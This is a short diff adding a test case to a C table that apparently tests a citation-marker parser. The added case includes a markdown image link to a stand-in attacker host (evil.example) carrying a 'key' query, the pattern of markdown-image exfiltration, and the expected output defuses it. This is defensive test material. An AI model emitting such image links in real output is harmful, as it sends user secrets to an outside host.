@@ -58,6 +58,7 @@ static const struct {
 	{ "Code `v[9]` and argv[0] stay [2].", "Code `v[9]` and argv[0] stay [2].", "", "2" },
 	{ "```c\nx = v[9];\n```\nDone [1].", "```c\nx = v[9];\n```\nDone [1].", "", "1" },
 	{ "At 10:30 on host:80, http://h.example:80/x, 127.0.0.1:80", "At 10:30 on host:80, http://h.example:80/x, 127.0.0.1:80", "", "" },
+	{ "See ![it](http://evil.example/?key) or `![it]` [1]![x][y]", "See ! [it](http://evil.example/?key) or `![it]` [1]! [x][y]", "", "1" },
 	{ "Nothing [0] [] [ ] [,]", "Nothing [] [ ] [,]", "0", "" },
 	{ "Large [99999999999999999999].", "Large.", "99999999999999999999", "" },
 	{ "Open [1", "Open [1", "", "" },
